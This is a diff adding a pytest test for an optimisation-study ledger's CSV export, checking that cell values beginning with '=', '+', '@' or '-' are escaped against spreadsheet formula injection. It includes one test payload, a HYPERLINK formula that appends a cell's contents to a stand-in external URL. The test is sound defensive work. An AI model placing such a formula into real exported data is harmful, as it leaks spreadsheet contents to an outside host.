@@ -105,3 +105,29 @@ def test_a_study_of_somebody_else_is_not_replaced(history: History, tmp_path: Pa
 def test_objectives_are_those_recorded(history: History) -> None:
     assert export.objectives_of(history, "search") == (Objective("gap", "maximise", "eV"), Objective("cost"))
     assert export.objectives_of(history, "nothing") == ()
+
+
+def test_what_people_wrote_is_no_formula_in_a_spreadsheet(tmp_path: Path) -> None:
+    evil = '=HYPERLINK("http://elsewhere.example/"&A1)'
+    with Ledger.open(tmp_path / "ledger.db", config=CONFIG, environment={}) as ledger:
+        proposal = Proposal(point={"T": -900.0, "mix": "-"}, extra={"asked_by": "@Ana"})
+        trial = ledger.propose("search", proposal, seed=1, ask=0)
+        notes = {"note": evil, "drift": -0.5}
+        ledger.answer(
+            trial, Answer(values={"gap": -1.0, "cost": 2.0}, started_at=0.0, finished_at=1.0, worker="+Ben", info=notes)
+        )
+        trial = ledger.propose("search", proposal, seed=2, ask=1)
+        ledger.answer(
+            trial, Answer(failure=Failure(cause="experiment", message="-cracked"), started_at=0.0, finished_at=1.0)
+        )
+        export.trials_csv(ledger.history, tmp_path / "t.csv")
+    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as text:
+        done, failed = csv.DictReader(text)
+    assert done["info.note"] == f"'{evil}" and done["worker"] == "'+Ben" and done["extra.asked_by"] == "'@Ana"
+    assert failed["message"] == "'-cracked"
+    assert (done["point.T"], done["point.mix"], done["value.gap"], done["info.drift"]) == (
+        "-900.0",
+        "-",
+        "-1.0",
+        "-0.5",
+    )
